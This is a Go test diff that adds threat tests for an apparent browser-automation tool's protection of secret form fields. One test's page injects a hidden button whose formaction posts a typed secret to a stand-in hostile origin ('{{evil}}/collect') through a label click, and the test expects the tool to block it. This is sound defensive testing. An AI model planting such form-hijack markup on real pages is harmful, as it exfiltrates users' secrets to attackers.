@@ -170,3 +170,38 @@ func TestThreatFormIsNotSentElsewhere(t *testing.T) {
 		t.Error("the hostile origin received the value")
 	}
 }
+
+// A press on a label is a press on its button, also on one that nobody sees.
+func TestThreatLabelOfAButtonSendsNothingElsewhere(t *testing.T) {
+	s := show(t, `<form action="/submit" id=form><input name=f></form><label for=b style="cursor: pointer"><b>Continue</b></label><span id=place></span>
+<button onclick="place.innerHTML = '<button id=b form=form hidden formaction={{evil}}/collect></button>'">Inject</button>`)
+	if got := s.write(s.named("f").UID, "hunter2hunter2"); got != OutcomeOK {
+		t.Fatalf("Write = %q", got)
+	}
+	if _, err := s.tab.Click(t.Context(), s.saying("Inject").UID); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := s.tab.Click(t.Context(), s.saying("Continue").UID); !errors.Is(err, ErrSubmitOrigin) {
+		t.Errorf("Click on the label = %v, want ErrSubmitOrigin", err)
+	}
+	if s.site.Received(s.site.Evil, "hunter2hunter2") {
+		t.Error("the hostile origin received the value")
+	}
+}
+
+// An element of the page's own making hands the focus to a field inside it: typing into the one is typing into the other.
+func TestThreatTypingIntoTheHostOfATaggedField(t *testing.T) {
+	s := show(t, `<x-field tabindex=0 aria-label="Host" role=textbox></x-field><script>customElements.define('x-field', class extends HTMLElement {
+  constructor() { super(); this.attachShadow({ mode: 'open', delegatesFocus: true }).innerHTML = '<input name=inner>'; }
+  get value() { return this.shadowRoot.firstChild.value; } });</script>`)
+	if got := s.write(s.named("inner").UID, "hunter2hunter2"); got != OutcomeOK {
+		t.Fatalf("Write = %q", got)
+	}
+	host := s.find(func(it Item) bool { return it.Tag == "x-field" })
+	if _, err := s.tab.Type(t.Context(), host.UID, "x", TypeOptions{}); !errors.Is(err, ErrTagged) {
+		t.Errorf("Type into the host = %v, want ErrTagged", err)
+	}
+	if got := s.eval(`document.querySelector('x-field').value`); got != `"hunter2hunter2"` {
+		t.Errorf("the field holds %s, want what was written", got)
+	}
+}
